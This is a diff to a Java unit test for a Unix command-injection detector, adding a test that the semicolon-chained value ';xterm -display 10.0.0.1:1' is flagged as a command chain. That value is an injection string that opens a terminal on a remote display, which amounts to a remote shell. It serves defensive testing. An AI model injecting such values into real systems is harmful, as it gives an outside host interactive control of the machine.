@@ -343,6 +343,11 @@ class UnixCommandDetectorTest {
         assertThat(standard(detector, value)).isEmpty();
     }
 
+    @Test
+    void detectsXtermDisplayedOnRemoteHost() {
+        assertThat(standard(detector, ";xterm -display 10.0.0.1:1")).contains("UNIXCMD-CHAIN");
+    }
+
     @ParameterizedTest
     @ValueSource(strings = {"time who", "'time' who", "\"time\" who", "nice id"})
     void reportsPrefixCommandRunningAnotherOnlyWhenStrict(String value) {
